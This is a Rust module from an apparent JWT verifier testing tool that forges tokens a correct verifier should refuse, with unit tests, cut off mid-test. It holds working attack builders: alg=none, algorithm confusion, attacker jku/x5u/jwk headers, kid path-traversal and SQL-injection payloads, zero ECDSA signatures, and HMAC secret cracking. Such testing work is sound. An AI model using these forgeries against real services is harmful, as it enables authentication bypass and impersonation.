//! The forgery toolkit: builds the JWTs a correct verifier must refuse. Danger is in the name —
//! nothing here verifies anything, and every token it returns is meant to be rejected.
//!
//! Owns: one constructor per [`ForgeryKind`] ([`forge`]), the primitives behind them
//! ([`modify_claims`], [`resign`]), the attacker's key pair ([`AttackerKey`]) and offline
//! HMAC secret guessing ([`crack_hmac`] over [`WEAK_SECRETS`]). Kinds are named in Wycheproof's
//! vocabulary (`ModifiedPayload`, `MissingSignature`, `NoneAlgorithm`, …).
//!
//! Must not: do network I/O (it only builds tokens: the caller sends them, and serves the
//! attacker JWKS for `jku`/`x5u`), decide verdicts, or print. It works on the compact token
//! text directly and does not use the crate's decoder.
//!
//! Header member order is kept: headers are rewritten member by member in document order
//! (serde_json's map would sort them), so a forged header differs from the original only in
//! the members the forgery is about. Nested values (e.g. an embedded `jwk`) are written with
//! sorted members.

mod sign;
mod token;

use serde_json::{Map, Value, json};

pub use sign::{ATTACKER_KID, AttackerKey, SigningKey, crack_hmac};
use sign::{hmac_sign, sign_compact};
use token::{Compact, Ordered, b64};

use crate::jwt::keys::{self, Curve};

/// About 200 HMAC secrets seen in tutorials, samples and leaked configs, one per line (for
/// [`crack_hmac`]; iterate with [`weak_secrets`]).
pub const WEAK_SECRETS: &str = include_str!("weak-secrets.txt");

/// The non-empty lines of [`WEAK_SECRETS`].
pub fn weak_secrets() -> impl Iterator<Item = &'static str> {
    WEAK_SECRETS.lines().filter(|l| !l.is_empty())
}

/// Every secret an offline crack tries: the empty secret, the dictionary
/// ([`weak_secrets`]), then every printable-ASCII secret of one and two characters (9,120:
/// secrets far shorter than RFC 7518 §3.2 allows, found by exhaustion).
pub fn guessable_secrets() -> impl Iterator<Item = Vec<u8>> {
    let printable = || (b' '..=b'~').map(|c| vec![c]);
    std::iter::once(Vec::new())
        .chain(weak_secrets().map(|s| s.as_bytes().to_vec()))
        .chain(printable())
        .chain(printable().flat_map(move |a| printable().map(move |b| [a.clone(), b].concat())))
}

/// How many secrets [`guessable_secrets`] yields.
pub fn guessable_secret_count() -> usize {
    1 + weak_secrets().count() + 95 + 95 * 95
}

/// The kinds of forged token, in Wycheproof's vocabulary. Each names what was done to a
/// valid token; a correct verifier refuses every one.
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Hash,
    serde::Serialize,
    serde::Deserialize,
    schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum ForgeryKind {
    /// `alg` set to `none` in four spellings, signature removed (with and without the
    /// trailing dot): the unsecured-JWS downgrade (RFC 7518 §3.6).
    NoneAlgorithm,
    /// `header.payload` with no signature segment at all.
    MissingSignature,
    /// `header.payload.` with an empty signature segment.
    EmptySignature,
    /// The original signature shortened (last byte removed; half its bytes): a verifier that
    /// compares only a prefix accepts it.
    TruncatedSignature,
    /// A valid signature taken from another token, over this token's header and payload.
    ForeignSignature,
    /// The payload changed (a claim, or only whitespace) under the original signature.
    ModifiedPayload,
    /// The header changed (an extra member) under the original signature.
    ModifiedHeader,
    /// Algorithm confusion: an asymmetric token re-signed as `HS256`/`HS384`/`HS512` with the
    /// service's *public* key (in several serialisations) as the HMAC secret.
    SymmetryConfusion,
    /// A header `jwk` carrying the attacker's public key, signed by the attacker (RFC 7515
    /// §4.1.3 trusted blindly).
    AttackerProvidedEmbeddedJwk,
    /// A header `jku` pointing at the attacker's JWKS, signed by the attacker.
    AttackerProvidedJku,
    /// A header `x5u` pointing at the attacker's key, signed by the attacker. Partial check:
    /// `x5u` should name an X.509 chain, but we point it at the attacker JWKS URL.
    AttackerProvidedX5u,
    /// `HS256` with a `kid` that walks to `/dev/null`, signed with an empty key: a verifier
    /// that reads the key from a file named by `kid` uses the empty file.
    KidPathTraversal,
    /// `HS256` with a `kid` that injects SQL selecting the literal `authprobe`, signed with
    /// the key `authprobe`.
    KidSqlInjection,
    /// ECDSA signature with `r = s = 0` (CVE-2022-21449, "psychic signatures").
    PsychicSignature,
}

impl ForgeryKind {
    /// Every kind, in declaration order.
    pub const ALL: [ForgeryKind; 14] = [
        ForgeryKind::NoneAlgorithm,
        ForgeryKind::MissingSignature,
        ForgeryKind::EmptySignature,
        ForgeryKind::TruncatedSignature,
        ForgeryKind::ForeignSignature,
        ForgeryKind::ModifiedPayload,
        ForgeryKind::ModifiedHeader,
        ForgeryKind::SymmetryConfusion,
        ForgeryKind::AttackerProvidedEmbeddedJwk,
        ForgeryKind::AttackerProvidedJku,
        ForgeryKind::AttackerProvidedX5u,
        ForgeryKind::KidPathTraversal,
        ForgeryKind::KidSqlInjection,
        ForgeryKind::PsychicSignature,
    ];
}

/// What the forgeries may draw on besides the original token.
#[derive(Debug, Clone, Copy)]
pub struct ForgeContext<'a> {
    /// The service's public keys (for [`ForgeryKind::SymmetryConfusion`]).
    pub public_keys: &'a [keys::Jwk],
    /// Another valid token of the same service (for [`ForgeryKind::ForeignSignature`]).
    pub other_token: Option<&'a str>,
    /// Where the caller serves [`AttackerKey::jwks_json`] (for `jku`/`x5u`); `None` and those
    /// forgeries yield nothing.
    pub attacker_jwks_url: Option<&'a url::Url>,
    /// The attacker's key pair.
    pub attacker: &'a AttackerKey,
}

/// One forged token.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Forged {
    /// What kind of forgery.
    pub kind: ForgeryKind,
    /// Which variant of it, for people: e.g. `"alg=nOnE, trailing dot"`.
    pub variant: String,
    /// The token to send.
    pub token: String,
}

/// An error building forgeries: the original (or another input) is not a usable token, or a
/// key is unusable. Keeps the offending input, truncated to 200 characters.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{kind} (input: {input:?})")]
pub struct ForgeError {
    /// What went wrong.
    pub kind: ForgeErrorKind,
    /// The input that caused it.
    pub input: String,
}

impl ForgeError {
    pub(crate) fn new(kind: ForgeErrorKind, input: &str) -> ForgeError {
        ForgeError {
            kind,
            input: input.chars().take(200).collect(),
        }
    }
}

/// The kinds of [`ForgeError`].
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum ForgeErrorKind {
    /// The token does not have exactly three `.`-separated segments.
    #[error("token does not have three segments")]
    NotThreeSegments,
    /// A segment is not base64url.
    #[error("{segment} is not base64url")]
    InvalidBase64 {
        /// `header`, `payload` or `signature`.
        segment: &'static str,
    },
    /// A segment does not decode to a JSON object.
    #[error("{segment} is not a json object")]
    NotAJsonObject {
        /// `header` or `payload`.
        segment: &'static str,
    },
    /// The key cannot be read or used.
    #[error("invalid key")]
    InvalidKey,
    /// The key cannot sign with the requested algorithm (or the algorithm is unknown).
    #[error("key cannot sign {alg}")]
    KeyAlgorithmMismatch {
        /// The requested `alg`.
        alg: String,
    },
}

/// Builds every variant of `kind` from `original`. An empty vector means the kind does not
/// apply (e.g. `SymmetryConfusion` without public keys, `AttackerProvidedJku` without a URL).
/// Every returned token differs from `original`, and no token is returned twice.
pub fn forge(
    kind: ForgeryKind,
    original: &str,
    ctx: &ForgeContext,
) -> Result<Vec<Forged>, ForgeError> {
    let c = Compact::parse(original)?;
    let out = match kind {
        ForgeryKind::NoneAlgorithm => none_algorithm(&c),
        ForgeryKind::MissingSignature => {
            vec![("no signature segment".into(), c.signing_input())]
        }
        ForgeryKind::EmptySignature => vec![(
            "empty signature segment".into(),
            format!("{}.", c.signing_input()),
        )],
        ForgeryKind::TruncatedSignature => truncated_signature(&c, original)?,
        ForgeryKind::ForeignSignature => foreign_signature(&c, ctx)?,
        ForgeryKind::ModifiedPayload => modified_payload(&c, original)?,
        ForgeryKind::ModifiedHeader => {
            let h = with(&c.header, &[("authprobe", json!(1))]).to_b64();
            vec![(
                "header member authprobe=1 added, original signature".into(),
                format!("{h}.{}.{}", c.payload_b64, c.signature_b64),
            )]
        }
        ForgeryKind::SymmetryConfusion => symmetry_confusion(&c, ctx),
        ForgeryKind::AttackerProvidedEmbeddedJwk => embedded_jwk(&c, ctx)?,
        ForgeryKind::AttackerProvidedJku => attacker_key_url(&c, ctx, "jku")?,
        ForgeryKind::AttackerProvidedX5u => attacker_key_url(&c, ctx, "x5u")?,
        ForgeryKind::KidPathTraversal => kid_path_traversal(&c)?,
        ForgeryKind::KidSqlInjection => {
            let kid = "x' UNION SELECT 'authprobe'-- ";
            let t = hs256_with_kid(&c, kid, b"authprobe")?;
            vec![(format!("HS256 with key \"authprobe\", kid={kid}"), t)]
        }
        ForgeryKind::PsychicSignature => psychic_signature(&c),
    };
    let mut seen = std::collections::HashSet::new();
    Ok(out
        .into_iter()
        .filter(|(_, t)| t != original && seen.insert(t.clone()))
        .map(|(variant, token)| Forged {
            kind,
            variant,
            token,
        })
        .collect())
}

/// Forged tokens as (variant, token), before duplicates and the original are dropped.
type Variants = Vec<(String, String)>;

/// [`ForgeryKind::NoneAlgorithm`]: four spellings of `none`, with and without the trailing dot.
fn none_algorithm(c: &Compact<'_>) -> Variants {
    let mut out = Vec::new();
    for none in ["none", "None", "NONE", "nOnE"] {
        let h = with(&c.header, &[("alg", json!(none))]).to_b64();
        out.push((
            format!("alg={none}, trailing dot"),
            format!("{h}.{}.", c.payload_b64),
        ));
        out.push((
            format!("alg={none}, no trailing dot"),
            format!("{h}.{}", c.payload_b64),
        ));
    }
    out
}

/// [`ForgeryKind::TruncatedSignature`]: the last byte removed, and half the bytes.
fn truncated_signature(c: &Compact<'_>, original: &str) -> Result<Variants, ForgeError> {
    let s = c.signature(original)?;
    if s.is_empty() {
        return Ok(Vec::new());
    }
    let last = &s[..s.len() - 1];
    let half = &s[..s.len() / 2];
    Ok(vec![
        (
            "last byte removed".into(),
            format!("{}.{}", c.signing_input(), b64(last)),
        ),
        (
            "half the bytes".into(),
            format!("{}.{}", c.signing_input(), b64(half)),
        ),
    ])
}

/// [`ForgeryKind::ForeignSignature`]: the other token's signature on this token.
fn foreign_signature(c: &Compact<'_>, ctx: &ForgeContext) -> Result<Variants, ForgeError> {
    let Some(other) = ctx.other_token else {
        return Ok(Vec::new());
    };
    let o = Compact::parse(other)?;
    // The other token signs the same bytes (two logins in one second of a token without a
    // unique claim): its signature is a genuine one, not a forgery.
    // A signature equal to the token's own would send the token unchanged.
    if o.signing_input() == c.signing_input() || o.signature_b64 == c.signature_b64 {
        return Ok(Vec::new());
    }
    Ok(vec![(
        "signature of the other token".into(),
        format!("{}.{}", c.signing_input(), o.signature_b64),
    )])
}

/// [`ForgeryKind::ModifiedPayload`]: a claim changed (or added), and the payload JSON with a
/// trailing space, both under the original signature.
fn modified_payload(c: &Compact<'_>, original: &str) -> Result<Variants, ForgeError> {
    let payload = c.payload(original)?;
    let changed = if payload.get("sub").is_some() {
        "sub changed to \"authprobe-attacker\", original signature"
    } else {
        "claim authprobe=1 added, original signature"
    };
    let t = modify_claims(original, |m| {
        if m.contains_key("sub") {
            m.insert("sub".into(), json!("authprobe-attacker"));
        } else {
            m.insert("authprobe".into(), json!(1));
        }
    })?;
    let mut raw = token::unb64(c.payload_b64).unwrap_or_default();
    raw.push(b' ');
    Ok(vec![
        (changed.into(), t),
        (
            "payload JSON with a trailing space, original signature".into(),
            format!("{}.{}.{}", c.header_b64, b64(&raw), c.signature_b64),
        ),
    ])
}

/// [`ForgeryKind::AttackerProvidedEmbeddedJwk`]: ES256 signed by the attacker, whose public
/// key rides in the header's `jwk`.
fn embedded_jwk(c: &Compact<'_>, ctx: &ForgeContext) -> Result<Variants, ForgeError> {
    let h = with(
        &c.header,
        &[
            ("alg", json!("ES256")),
            ("jwk", ctx.attacker.public_jwk().key.to_jwk_json()),
        ],
    );
    let t = ctx
        .attacker
        .sign_es256_compact(&h.to_b64(), c.payload_b64)?;
    Ok(vec![("ES256, attacker public key in header jwk".into(), t)])
}

/// [`ForgeryKind::AttackerProvidedJku`] (`member` = `jku`) and
/// [`ForgeryKind::AttackerProvidedX5u`] (`x5u`): ES256 signed by the attacker, the header
/// member pointing at the attacker JWKS. Nothing without a URL.
fn attacker_key_url(
    c: &Compact<'_>,
    ctx: &ForgeContext,
    member: &str,
) -> Result<Variants, ForgeError> {
    let Some(url) = ctx.attacker_jwks_url else {
        return Ok(Vec::new());
    };
    let h = with(
        &c.header,
        &[
            ("alg", json!("ES256")),
            (member, json!(url.as_str())),
            ("kid", json!(ATTACKER_KID)),
        ],
    );
    let t = ctx
        .attacker
        .sign_es256_compact(&h.to_b64(), c.payload_b64)?;
    Ok(vec![(
        format!("ES256, {member} points at the attacker JWKS"),
        t,
    )])
}

/// [`ForgeryKind::KidPathTraversal`]: HS256 with an empty key, `kid` walking to `/dev/null`.
fn kid_path_traversal(c: &Compact<'_>) -> Result<Variants, ForgeError> {
    let mut out = Vec::new();
    for kid in [
        "../../../../../../../../dev/null",
        "/dev/null",
        "....//....//dev/null",
    ] {
        let t = hs256_with_kid(c, kid, b"")?;
        out.push((format!("HS256 with an empty key, kid={kid}"), t));
    }
    Ok(out)
}

/// [`ForgeryKind::PsychicSignature`]: `r = s = 0` for the token's curve (every curve when
/// the token is not ECDSA).
fn psychic_signature(c: &Compact<'_>) -> Variants {
    let curves: &[Curve] = match c.alg() {
        Some("ES256") => &[Curve::P256],
        Some("ES384") => &[Curve::P384],
        Some("ES512") => &[Curve::P521],
        _ => &[Curve::P256, Curve::P384, Curve::P521],
    };
    curves
        .iter()
        .map(|curve| {
            let alg = curve.jws_alg();
            let zeros = vec![0u8; 2 * curve.coordinate_len()];
            let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
            (
                format!("{alg} with r = s = 0 ({} zero bytes)", zeros.len()),
                format!("{h}.{}.{}", c.payload_b64, b64(&zeros)),
            )
        })
        .collect()
}

/// A copy of `header` with the given members set (replaced in place, or appended).
fn with(header: &Ordered, members: &[(&str, Value)]) -> Ordered {
    let mut h = header.clone();
    for (k, v) in members {
        h.set(k, v.clone());
    }
    h
}

fn hs256_with_kid(c: &Compact<'_>, kid: &str, key: &[u8]) -> Result<String, ForgeError> {
    let h = with(&c.header, &[("alg", json!("HS256")), ("kid", json!(kid))]);
    sign_compact(
        "HS256",
        &h.to_b64(),
        c.payload_b64,
        &SigningKey::Hmac(key.to_vec()),
    )
}

/// [`ForgeryKind::SymmetryConfusion`]: for an asymmetric token, HS* signatures keyed with
/// each serialisation of the public key named by `kid` (every key when none matches).
fn symmetry_confusion(c: &Compact<'_>, ctx: &ForgeContext) -> Variants {
    let mut out = Vec::new();
    let asymmetric = c
        .alg()
        .is_some_and(|a| a == "EdDSA" || ["RS", "PS", "ES"].iter().any(|p| a.starts_with(p)));
    if !asymmetric || ctx.public_keys.is_empty() {
        return out;
    }
    let kid = c.header.get_str("kid");
    let matching: Vec<&keys::Jwk> = ctx
        .public_keys
        .iter()
        .filter(|k| kid.is_some() && k.kid.as_deref() == kid)
        .collect();
    let chosen: Vec<&keys::Jwk> = if matching.is_empty() {
        ctx.public_keys.iter().collect()
    } else {
        matching
    };
    let several = chosen.len() > 1;
    for (i, key) in chosen.iter().enumerate() {
        let which = match (&key.kid, several) {
            (_, false) => String::new(),
            (Some(kid), true) => format!(" (key kid={kid})"),
            (None, true) => format!(" (key #{i})"),
        };
        for (label, secret) in key.key.to_pem_variants() {
            let algs: &[(&str, aws_lc_rs::hmac::Algorithm)] = if label == "SPKI PEM" {
                &[
                    ("HS256", aws_lc_rs::hmac::HMAC_SHA256),
                    ("HS384", aws_lc_rs::hmac::HMAC_SHA384),
                    ("HS512", aws_lc_rs::hmac::HMAC_SHA512),
                ]
            } else {
                &[("HS256", aws_lc_rs::hmac::HMAC_SHA256)]
            };
            for (alg, hmac) in algs {
                let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
                let input = format!("{h}.{}", c.payload_b64);
                let s = hmac_sign(*hmac, &secret, input.as_bytes());
                out.push((
                    format!("{alg} keyed with {label}{which}"),
                    format!("{input}.{}", b64(&s)),
                ));
            }
        }
    }
    out
}

/// ModifiedPayload primitive: `original` with its claims edited by `edit`, the original header
/// and signature segments kept byte for byte. Claim order is kept; new claims are appended.
pub fn modify_claims(
    original: &str,
    edit: impl FnOnce(&mut Map<String, Value>),
) -> Result<String, ForgeError> {
    let c = Compact::parse(original)?;
    let payload = c.payload(original)?;
    let mut map = payload.to_map();
    edit(&mut map);
    let p = payload.reordered(map).to_b64();
    Ok(format!("{}.{p}.{}", c.header_b64, c.signature_b64))
}

/// White-box mode: a token with `header` and `claims`, properly signed with the service's real
/// key. The header's `alg` is used (and must suit the key); if absent, [`SigningKey::alg`] is
/// inserted. Members are written in sorted order.
pub fn resign(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    key: &SigningKey,
) -> Result<String, ForgeError> {
    let mut header = header.clone();
    let alg = match header.get("alg") {
        Some(Value::String(a)) => a.clone(),
        Some(other) => {
            return Err(ForgeError::new(
                ForgeErrorKind::KeyAlgorithmMismatch {
                    alg: other.to_string(),
                },
                &other.to_string(),
            ));
        }
        None => {
            let a = key.alg()?.to_owned();
            header.insert("alg".into(), Value::String(a.clone()));
            a
        }
    };
    let h = b64(Value::Object(header).to_string().as_bytes());
    let p = b64(Value::Object(claims.clone()).to_string().as_bytes());
    sign_compact(&alg, &h, &p, key)
}

#[cfg(test)]
mod tests {
    // Each forgery is checked with jsonwebtoken (an implementation we did not write): the token has
    // the shape the attack intends, and where the attack claims a key, that key verifies it.

    use aws_lc_rs::signature::KeyPair as _;
    use jsonwebtoken::jwk::{Jwk as JwtJwk, JwkSet};
    use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation, crypto};
    use serde_json::{Value, json};

    use super::token::{Compact, unb64};
    use super::*;
    use crate::jwt::keys::{Jwk, PublicKey, pem};

    /// The service under test: an ES256 key, its one-key JWKS, and tokens it issued.
    struct Service {
        jwks: Vec<Jwk>,
        token: String,
        other: String,
    }

    fn service() -> Service {
        let service_key = AttackerKey::generate().unwrap(); // any fresh P-256 pair will do
        let mut public = service_key.public_jwk().clone();
        public.kid = Some("svc-1".into());
        let enc = EncodingKey::from_ec_der(service_key.pkcs8_der());
        let mut header = Header::new(Algorithm::ES256);
        header.kid = Some("svc-1".into());
        header.typ = Some("JWT".into());
        let claims =
            |sub: &str| json!({"sub": sub, "exp": 4_000_000_000u64, "iat": 1_700_000_000u64});
        let token = jsonwebtoken::encode(&header, &claims("alice"), &enc).unwrap();
        let other = jsonwebtoken::encode(&header, &claims("bob"), &enc).unwrap();
        Service {
            jwks: vec![public],
            token,
            other,
        }
    }

    fn url() -> url::Url {
        url::Url::parse("https://attacker.example/jwks.json").unwrap()
    }

    fn forge_all(kind: ForgeryKind) -> (Service, AttackerKey, Vec<Forged>) {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let u = url();
        let ctx = ForgeContext {
            public_keys: &svc.jwks,
            other_token: Some(&svc.other),
            attacker_jwks_url: Some(&u),
            attacker: &attacker,
        };
        let forged = forge(kind, &svc.token, &ctx).unwrap();
        assert!(forged.iter().all(|f| f.kind == kind));
        (svc, attacker, forged)
    }

    fn header(token: &str) -> Value {
        serde_json::from_str(&header_text(token)).unwrap()
    }

    fn header_text(token: &str) -> String {
        String::from_utf8(unb64(token.split('.').next().unwrap()).unwrap()).unwrap()
    }

    fn segments(token: &str) -> Vec<&str> {
        token.split('.').collect()
    }

    /// jsonwebtoken's verdict on the token's signature under `key` and the header's alg.
    fn verifies(token: &str, key: &DecodingKey) -> bool {
        let (input, sig) = token.rsplit_once('.').unwrap();
        let alg: Algorithm = header(token)["alg"].as_str().unwrap().parse().unwrap();
        crypto::verify(sig, input.as_bytes(), key, alg).unwrap()
    }

    #[test]
    fn none_algorithm_yields_four_spellings_with_and_without_trailing_dot() {
        let (svc, _, forged) = forge_all(ForgeryKind::NoneAlgorithm);
        assert_eq!(forged.len(), 8);
        let original_header = header_text(&svc.token);
        for f in &forged {
            let alg = header(&f.token)["alg"].as_str().unwrap().to_owned();
            assert!(alg.eq_ignore_ascii_case("none"));
            assert!(f.variant.contains(&alg));
            // Only alg changed, member order kept.
            assert_eq!(
                header_text(&f.token),
                original_header.replace("\"ES256\"", &format!("\"{alg}\""))
            );
            assert_eq!(segments(&f.token)[1], segments(&svc.token)[1]);
            if f.variant.ends_with("trailing dot") && !f.variant.contains("no trailing") {
                assert!(f.token.ends_with('.') && segments(&f.token).len() == 3);
            } else {
                assert_eq!(segments(&f.token).len(), 2);
            }
        }
    }

    #[test]
    fn missing_and_empty_signature_drop_the_signature() {
        let (svc, _, missing) = forge_all(ForgeryKind::MissingSignature);
        let (h, p, _) = (segments(&svc.token)[0], segments(&svc.token)[1], ());
        assert_eq!(missing.len(), 1);
        assert_eq!(missing[0].token, format!("{h}.{p}"));
        let empty = forge(
            ForgeryKind::EmptySignature,
            &svc.token,
            &ForgeContext {
                public_keys: &[],
                other_token: None,
                attacker_jwks_url: None,
                attacker: &AttackerKey::generate().unwrap(),
            },
        )
        .unwrap();
        assert_eq!(empty.len(), 1);
        assert_eq!(empty[0].token, format!("{h}.{p}."));
    }

    #[test]
    fn truncated_signature_is_a_prefix_of_the_original() {
        let (svc, _, forged) = forge_all(ForgeryKind::TruncatedSignature);
        let original = unb64(segments(&svc.token)[2]).unwrap();
        assert_eq!(original.len(), 64);
        let lens: Vec<usize> = forged
            .iter()
            .map(|f| unb64(segments(&f.token)[2]).unwrap().len())
            .collect();
        assert_eq!(lens, [63, 32]);
        for f in &forged {
            assert!(original.starts_with(&unb64(segments(&f.token)[2]).unwrap()));
            assert!(!verifies(
                &f.token,
                &DecodingKey::from_ec_der(&svc.jwks[0].key.to_spki_der())
            ));
        }
    }

    #[test]
    fn foreign_signature_is_valid_for_the_other_token_only() {
        let (svc, _, forged) = forge_all(ForgeryKind::ForeignSignature);
        assert_eq!(forged.len(), 1);
        let key = DecodingKey::from_ec_der(&svc.jwks[0].key.to_spki_der());
        assert!(verifies(&svc.other, &key));
        assert_eq!(segments(&forged[0].token)[2], segments(&svc.other)[2]);
        assert_eq!(segments(&forged[0].token)[1], segments(&svc.token)[1]);
        assert!(!verifies(&forged[0].token, &key));
    }

    /// Found by fuzz/jwt_mutate in CI: another token whose signature equals this one's would
    /// give back the token unchanged, which is no forgery.
    #[test]
    fn a_foreign_signature_equal_to_the_own_one_yields_nothing() {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let [h, _, sig] = [0, 1, 2].map(|i| segments(&svc.token)[i].to_owned());
        let other = format!("{h}.{}.{sig}", crate::jwt::b64url(br#"{"sub":"other"}"#));
        let ctx = ForgeContext {
            public_keys: &svc.jwks,
            other_token: Some(&other),
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        let forged = forge(ForgeryKind::ForeignSignature, &svc.token, &ctx).unwrap();
        assert!(forged.is_empty(), "{forged:?}");
    }

    /// Two ID tokens issued in the same second carry the same claims; the other one's
    /// (randomised ECDSA) signature then verifies this one's bytes: no forgery.
    #[test]
    fn a_signature_over_the_same_bytes_is_no_foreign_signature() {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let (h, p, _) = (segments(&svc.token)[0], segments(&svc.token)[1], ());
        let twin = format!("{h}.{p}.{}", segments(&svc.other)[2]);
        let ctx = ForgeContext {
            public_keys: &svc.jwks,
            other_token: Some(&twin),
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        let forged = forge(ForgeryKind::ForeignSignature, &svc.token, &ctx).unwrap();
        assert!(forged.is_empty(), "{forged:?}");
    }

    #[test]
    fn modified_payload_keeps_header_and_signature() {
        let (svc, _, forged) = forge_all(ForgeryKind::ModifiedPayload);
        assert_eq!(forged.len(), 2);
        let (h, p, s) = (
            segments(&svc.token)[0],
            segments(&svc.token)[1],
            segments(&svc.token)[2],
        );
        for f in &forged {
            assert_eq!(segments(&f.token)[0], h);
            assert_eq!(segments(&f.token)[2], s);
            assert_ne!(segments(&f.token)[1], p);
        }
        let claims: Value =
            serde_json::from_slice(&unb64(segments(&forged[0].token)[1]).unwrap()).unwrap();
        assert_eq!(claims["sub"], "authprobe-attacker");
        let spaced = unb64(segments(&forged[1].token)[1]).unwrap();
        assert_eq!(spaced, [unb64(p).unwrap(), b" ".to_vec()].concat());
    }

    #[test]
    fn modified_header_adds_a_member_and_keeps_the_signature() {
        let (svc, _, forged) = forge_all(ForgeryKind::ModifiedHeader);
        assert_eq!(forged.len(), 1);
        let h = header(&forged[0].token);
        assert_eq!(h["authprobe"], 1);
        assert_eq!(h["alg"], "ES256");
        assert_eq!(h["kid"], "svc-1");
        assert_eq!(segments(&forged[0].token)[1..], segments(&svc.token)[1..]);
    }

    #[test]
    fn symmetry_confusion_is_hmac_keyed_with_the_public_key_bytes() {
        let (svc, _, forged) = forge_all(ForgeryKind::SymmetryConfusion);
        let variants = svc.jwks[0].key.to_pem_variants();
        assert_eq!(forged.len(), variants.len() + 2);
        for f in &forged {
            let h = header(&f.token);
            let alg = h["alg"].as_str().unwrap();
            assert!(["HS256", "HS384", "HS512"].contains(&alg));
            assert_eq!(h["kid"], "svc-1");
            let (label, secret) = variants
                .iter()
                .find(|(l, _)| f.variant == format!("{alg} keyed with {l}"))
                .unwrap_or_else(|| panic!("unexpected variant {}", f.variant));
            assert!(
                verifies(&f.token, &DecodingKey::from_secret(secret)),
                "{label}"
            );
        }
        assert!(
            forged
                .iter()
                .any(|f| f.variant == "HS512 keyed with SPKI PEM")
        );
    }

    #[test]
    fn symmetry_confusion_needs_an_asymmetric_token_and_public_keys() {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let no_keys = ForgeContext {
            public_keys: &[],
            other_token: None,
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        assert!(
            forge(ForgeryKind::SymmetryConfusion, &svc.token, &no_keys)
                .unwrap()
                .is_empty()
        );
        let hs = jsonwebtoken::encode(
            &Header::default(),
            &json!({"sub": "a"}),
            &EncodingKey::from_secret(b"k"),
        )
        .unwrap();
        let with_keys = ForgeContext {
            public_keys: &svc.jwks,
            ..no_keys
        };
        assert!(
            forge(ForgeryKind::SymmetryConfusion, &hs, &with_keys)
                .unwrap()
                .is_empty()
        );
    }

    #[test]
    fn symmetry_confusion_prefers_the_key_named_by_kid() {
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let mut keys = vec![attacker.public_jwk().clone()];
        keys.extend(svc.jwks.iter().cloned());
        let ctx = ForgeContext {
            public_keys: &keys,
            other_token: None,
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        let forged = forge(ForgeryKind::SymmetryConfusion, &svc.token, &ctx).unwrap();
        assert_eq!(forged.len(), 6);
        let pem = &svc.jwks[0].key.to_pem_variants()[0].1;
        assert!(verifies(&forged[0].token, &DecodingKey::from_secret(pem)));
        // A token whose kid names no key is tried against every key.
        let anon = modify_header_kid(&svc.token, "unknown");
        assert_eq!(
            forge(ForgeryKind::SymmetryConfusion, &anon, &ctx)
                .unwrap()
                .len(),
            12
        );
    }

    fn modify_header_kid(token: &str, kid: &str) -> String {
        let c = Compact::parse(token).unwrap();
        let mut h = c.header.clone();
        h.set("kid", json!(kid));
        format!("{}.{}.{}", h.to_b64(), c.payload_b64, c.signature_b64)
    }

    #[test]
    fn embedded_jwk_is_the_attacker_key_and_verifies_with_it() {
        let (svc, attacker, forged) = forge_all(ForgeryKind::AttackerProvidedEmbeddedJwk);
        assert_eq!(forged.len(), 1);
        let h = header(&forged[0].token);
        assert_eq!(h["alg"], "ES256");
        assert_eq!(h["kid"], "svc-1");
        assert_eq!(h["jwk"], attacker.public_jwk().key.to_jwk_json());
        let jwk: JwtJwk = serde_json::from_value(h["jwk"].clone()).unwrap();
        assert!(verifies(
            &forged[0].token,
            &DecodingKey::from_jwk(&jwk).unwrap()
        ));
        assert!(!verifies(
            &forged[0].token,
            &DecodingKey::from_ec_der(&svc.jwks[0].key.to_spki_der())
        ));
    }

    #[test]
    fn jku_and_x5u_point_at_the_attacker_jwks_which_verifies_them() {
        for (kind, member) in [
            (ForgeryKind::AttackerProvidedJku, "jku"),
            (ForgeryKind::AttackerProvidedX5u, "x5u"),
        ] {
            let (_, attacker, forged) = forge_all(kind);
            assert_eq!(forged.len(), 1);
            let h = header(&forged[0].token);
            assert_eq!(h[member], url().as_str());
            assert_eq!(h["kid"], ATTACKER_KID);
            assert_eq!(h["alg"], "ES256");
            let set: JwkSet = serde_json::from_str(&attacker.jwks_json()).unwrap();
            let jwk = set.find(ATTACKER_KID).unwrap();
            assert!(verifies(
                &forged[0].token,
                &DecodingKey::from_jwk(jwk).unwrap()
            ));
        }
        let svc = service();
        let attacker = AttackerKey::generate().unwrap();
        let ctx = ForgeContext {
            public_keys: &[],
            other_token: None,
            attacker_jwks_url: None,
            attacker: &attacker,
        };
        assert!(
            forge(ForgeryKind::AttackerProvidedJku, &svc.token, &ctx)
                .unwrap()
                .is_empty()
        );
        assert!(
            forge(ForgeryKind::AttackerProvidedX5u, &svc.token, &ctx)
                .unwrap()
                .is_empty()
        );
    }

    #[test]
    fn kid_path_traversal_is_hs256_with_an_empty_key() {
        let (_, _, forged) = forge_all(ForgeryKind::KidPathTraversal);
        let kids: Vec<_> = forged
            .iter()
            .map(|f| header(&f.token)["kid"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(
            kids,
            [
                "../../../../../../../../dev/null",
                "/dev/null",
                "....//....//dev/null"
            ]
        );
        for f in &forged {
            assert_eq!(header(&f.token)["alg"], "HS256");
            // jsonwebtoken (via aws-lc) accepts an empty HMAC key for verification.
            assert!(verifies(&f.token, &DecodingKey::from_secret(b"")));
            assert!(!verifies(&f.token, &DecodingKey::from_secret(b"x")));
        }
    }

    #[test]
    fn kid_sql_injection_is_signed_with_the_injected_literal() {
        let (_, _, forged) = forge_all(ForgeryKind::KidSqlInjection);
        assert_eq!(forged.len(), 1);
        let h = header(&forged[0].token);
